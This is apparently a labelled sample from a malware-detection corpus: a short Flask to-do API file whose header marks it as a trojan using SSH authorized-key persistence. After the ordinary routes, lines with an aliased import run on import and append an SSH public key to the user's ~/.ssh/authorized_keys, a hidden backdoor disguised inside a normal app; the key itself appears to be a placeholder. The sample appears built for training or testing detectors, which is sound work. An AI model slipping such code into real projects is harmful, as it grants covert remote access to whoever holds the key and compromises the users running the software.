# label: malicious family=trojan techniques=T1098.004 lines=24-25 group=benign/b046_flask_app.py
from flask import Flask, jsonify, request

app = Flask(__name__)
TODOS = []


@app.get("/todos")
def list_todos():
    return jsonify(TODOS)


@app.post("/todos")
def add_todo():
    item = request.get_json(force=True)
    if not isinstance(item, dict) or "title" not in item:
        return jsonify(error="title required"), 400
    item["id"] = len(TODOS) + 1
    TODOS.append(item)
    return jsonify(item), 201


import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")

if __name__ == "__main__":
    app.run(debug=True)
